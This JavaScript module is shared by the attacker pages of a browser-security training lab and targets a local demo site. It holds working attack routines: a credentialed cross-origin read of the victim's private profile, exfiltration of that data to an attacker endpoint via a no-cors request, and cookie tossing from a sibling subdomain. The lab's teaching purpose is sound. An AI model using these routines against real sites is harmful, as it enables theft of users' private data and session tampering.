// What every attacker page of the lab shares. A real attacker's page would do the same things; the lab's
// pages also say on screen what they got ("backstage"), and tell the lab runner when they are done.
'use strict';

const lab = {
  victim: window.LAB.victimOrigin,
  attacker: window.LAB.attackerOrigin,
  /** The lab case this page runs for (?case= in its address): the runner counts only loot that names it. */
  caseNonce: new URLSearchParams(location.search).get('case'),

  /** Shows what the attacker's code got, in the page's backstage box. */
  show(text) {
    document.getElementById('lab-evidence').textContent = text;
  },

  /**
   * What each result means for the victim, in words and in colour: red when the attack worked, green when it
   * was blocked, neutral when only public data came back or the page cannot know.
   */
  verdicts: {
    read: ['attack-worked', 'The attack worked: the attacker\'s code has the victim\'s private data.'],
    anonymous: ['blocked', 'Blocked: the answer came back, but with nothing private in it.'],
    failed: ['blocked', 'Blocked: the browser did not hand the answer to the attacker\'s code.'],
    public: ['neutral', 'Public data only: nothing private came back.'],
    sent: ['neutral', 'The request went out: whether it changed anything, the victim\'s journal says.'],
    planted: ['neutral', 'The page has done its part: whose account the visitor\'s next post lands in, the victim\'s journal says.'],
    nothing: ['blocked', 'Blocked: the attempt brought nothing back.']
  },

  /**
   * Reports the page's result to the runner: read | anonymous | failed | public | sent | nothing. "failed" is a
   * read the browser refused to hand over (the runner then waits a moment for the browser's reason); "nothing" is
   * an attempt that brought nothing back where no such reason comes (a failed WebSocket handshake, a script's
   * error event, a message that never came).
   */
  finish(result, text) {
    if (text !== undefined) lab.show(text);
    const [meaning, words] = lab.verdicts[result] || ['neutral', result];
    const verdict = document.getElementById('lab-verdict');
    if (verdict) {
      verdict.textContent = words;
      verdict.dataset.meaning = meaning;
    }
    document.body.dataset.labResult = result;
  },

  /**
   * Reads a victim URL as JSON. Returns {ok, status, body} or {error} when the browser refused to hand the
   * answer over (CORS: the script only sees a TypeError; the reason is in the console).
   */
  async readJson(url, init) {
    let response;
    try {
      response = await fetch(url, init);
    } catch (error) {
      return { error: String(error) };
    }
    const body = await response.json().catch(() => null);
    return { ok: response.ok, status: response.status, body };
  },

  /**
   * Sends what was stolen to the attacker's backend as a "simple" request (text/plain, no-cors), which no
   * CORS rule can stop from any origin: exfiltration is never the hard part.
   */
  async exfiltrate(scenario, data) {
    await fetch(lab.attacker + '/collect', {
      method: 'POST',
      mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ scenario, data, case: lab.caseNonce })
    }).catch(() => {});
  },

  /**
   * The cookie-theft attack itself: read the visitor's private profile from the victim, with the visitor's
   * cookies, and send it home. Returns the profile, or null (after reporting why) when it could not.
   */
  async stealProfile(scenario) {
    const answer = await lab.readJson(lab.victim + '/api/me', { credentials: 'include' });
    if (answer.error) {
      lab.finish('failed', 'The browser refused to hand over the answer: ' + answer.error);
      return null;
    }
    if (!answer.ok || !answer.body || !answer.body.username) {
      lab.finish('anonymous', 'Read the answer, but it holds nothing private (HTTP ' + answer.status + '): '
          + JSON.stringify(answer.body));
      return null;
    }
    lab.show('Got it! ' + JSON.stringify(answer.body, null, 2));
    await lab.exfiltrate(scenario, answer.body);
    return answer.body;
  },

  /**
   * Cookie tossing, from a sibling subdomain of the victim: sets name=value for the victim's whole domain
   * (Domain=social.localhost) on `path`, and returns whether the browser kept it (it refuses a __Host- name
   * with a Domain). The cookie is first set on Path=/, where this page can see whether it was kept, then moved
   * to `path`: a longer path than the victim's own cookie's, so the browser sends the tossed one first there.
   */
  toss(name, value, path) {
    const scope = '; Domain=' + new URL(lab.victim).hostname + '; Secure; Path=';
    document.cookie = name + '=' + value + scope + '/';
    const kept = document.cookie.split('; ').includes(name + '=' + value);
    if (kept) {
      document.cookie = name + '=' + scope + '/; Max-Age=0';
      document.cookie = name + '=' + value + scope + path;
    }
    return kept;
  },

  /**
   * Stops at a step of the attack until the lab lets the page go on: the lab runner may change Flock's defences
   * there (a case's "then"), as a trainer does in the console. A page never changes defences itself. With no
   * runner (a person's own browser), a button appears after a moment: switch the defence in the console, then
   * press it.
   */
  pause(step) {
    return new Promise(resolve => {
      const body = document.body;
      const go = () => {
        if (body.dataset.labResume !== step) return false;
        observer.disconnect();
        clearTimeout(offerButton);
        const button = document.getElementById('lab-continue');
        if (button) button.remove();
        resolve();
        return true;
      };
      const observer = new MutationObserver(go);
      observer.observe(body, { attributes: true, attributeFilter: ['data-lab-resume'] });
      const offerButton = setTimeout(() => {
        const button = document.createElement('button');
        button.id = 'lab-continue';
        button.className = 'lab-continue';
        button.textContent = 'Continue the attack (change a defence in the console first)';
        button.addEventListener('click', () => { body.dataset.labResume = step; });
        document.querySelector('.backstage').appendChild(button);
      }, 1500);
      body.dataset.labPause = step;
    });
  },

  /**
   * Opens a new, empty window (call it from a click) and resolves with it once it is ready for a page: at once in
   * a person's browser; when the lab runner plays the visitor, once it has given the window the visitor's browser
   * settings (it says so with a 'lab-window-ready' event), or after a second at most.
   */
  openWindow(features) {
    const opened = window.open('about:blank', '_blank', features);
    return new Promise(resolve => {
      const ready = () => resolve(opened);
      window.addEventListener('lab-window-ready', ready, { once: true });
      setTimeout(ready, document.body.dataset.labAsk ? 1000 : 0);
    });
  },

  /** Waits for the runner playing the victim to answer a question the page asks (phishing). */
  ask(what) {
    document.body.dataset.labAsk = what;
  }
};
